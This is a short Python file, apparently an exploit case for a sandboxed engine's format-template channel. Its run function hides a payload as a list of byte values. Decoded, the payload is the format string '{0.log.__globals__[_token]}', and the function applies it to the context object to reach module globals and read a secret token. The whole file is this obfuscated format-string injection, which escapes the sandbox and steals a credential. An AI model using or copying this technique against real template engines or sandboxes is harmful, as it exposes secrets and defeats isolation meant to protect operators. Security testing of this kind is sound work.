#: channel = format-templates
#: reaches = engine
#: layer = check
#: note = public_attr hands out the format method of decoded text

from engine.sdk import public_attr


async def run(context):
    numbers = [123, 48, 46, 108, 111, 103, 46, 95, 95, 103, 108, 111, 98, 97, 108, 115, 95, 95, 91]
    text = bytes([*numbers, 95, 116, 111, 107, 101, 110, 93, 125]).decode()
    return public_attr(text, "format")(context)
